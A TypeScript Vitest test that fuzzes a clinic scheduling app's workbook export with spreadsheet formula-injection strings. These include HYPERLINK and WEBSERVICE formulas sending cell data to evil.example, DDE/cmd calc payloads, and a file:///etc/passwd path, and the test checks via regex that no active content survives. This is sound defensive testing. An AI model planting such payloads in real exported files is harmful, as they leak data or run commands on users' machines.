import { expect, test } from 'vitest';
import { randomFrom, type Random } from '@clinic/testkit';
import type { CountedReply } from '../plan/commits/report.ts';
import { makeWorkbook } from '../plan/commits/workbook.ts';
import { unzip } from '../testing/unzip.ts';
import { doseOf, keepFigures, seedOfRun, timeLimit } from './testing/doses.ts';

const COUNT = doseOf('hostile-workbooks');

const STARTS = ['=', '+', '-', '@', '\t=', '\r=', '\n=', ' =', "'=", '"=', '＝', '=\u200b', '<f>', '</t></is><f>'];
const MIDDLES = [
  'HYPERLINK("http://evil.example/?"&A1,"x")',
  'WEBSERVICE("http://evil.example/"&A1)',
  "cmd|' /C calc'!A0",
  'DDE("cmd";"/C calc";"x")',
  'IMPORTXML("http://evil.example","//a")',
  '1+1',
  'SUM(1)*cmd',
  ']]><f>1</f>',
  '</t></is></c><c r="A9"><f>1+1</f></c>',
  '<hyperlink ref="A1" r:id="rId1"/>',
  '&lt;f&gt;1&lt;/f&gt;',
  '" TargetMode="External" Target="http://evil.example',
  '_x003D_1+1',
  '\\\\evil.example\\share',
  'file:///etc/passwd',
];
const ENDS = ['', '\u0000', '\ud800', '\ufffe', '\u0008', '\u202e', ' ', '&', '<', "'", '"', ']]>', 'x'.repeat(40_000)];

/** A name that someone enters in the hope that a spreadsheet program will execute it. */
const hostile = (random: Random): string => `${random.pick(STARTS)}${random.pick(MIDDLES)}${random.pick(ENDS)}`;

/** A reply whose strings are all hostile and all different. */
function hostileReply(random: Random): CountedReply {
  const text = (): string => hostile(random);
  const row = { client: text(), time: text(), subject: text(), date: text() };
  return {
    commit: text(),
    figures: { sessions: 1, changes: 1, minutes_needed: 60, minutes_kept: 0, minutes_uncovered: 60, people: 1 },
    actions: [
      {
        ...row,
        from_therapist: text(),
        to_therapist: text(),
        status: text(),
        location: text(),
        appointment_id: text(),
        reason: text(),
      },
    ],
    by_therapist: [{ ...row, therapist: text(), status: text() }],
    calls: [{ who: text(), kind: random.pick(['family', 'therapist'] as const), date: text(), say: text() }],
    uncovered: [{ ...row, minutes: random.int(0, 1440), booked_therapist: text() }],
  };
}

/** Active content in the XML of a workbook's parts: formulas, links, connections, objects, macros. */
const ACTIVE =
  /<(?:\w+:)?(?:f|hyperlink|ddeLink|oleLink|externalReference|externalLink|connection|webPr|oleObject|control)[\s/>]|<[^<>]*TargetMode="External"/;
const PARTS = /externalLinks|connections\.xml|vbaProject|embeddings|activeX|ctrlProps|queryTables/;

test(
  'given any names, a workbook contains no formula, external link or other active content',
  async () => {
    const began = performance.now();
    const found: string[] = [];
    for (let n = 0; n < COUNT; n++) {
      const files = unzip(await makeWorkbook(hostileReply(randomFrom(seedOfRun() + n))));
      for (const [name, xml] of files) {
        const active = ACTIVE.exec(xml)?.[0];
        if (active !== undefined || PARTS.test(name)) found.push(`${n}: ${name} ${active ?? ''}`);
        // Every text cell is a plain string in the file; the type `str` would mean a formula's result.
        if (/<c [^>]*t="(?!s"|inlineStr"|n")/.test(xml)) found.push(`${n}: ${name} has a cell of another type`);
      }
      if (files.size < 6) found.push(`${n}: the workbook has ${files.size} parts`);
    }
    keepFigures('hostile-workbooks', COUNT, began, { 'formulas or external links': found.length });
    expect(found.slice(0, 5)).toEqual([]);
  },
  timeLimit(COUNT, 500),
);
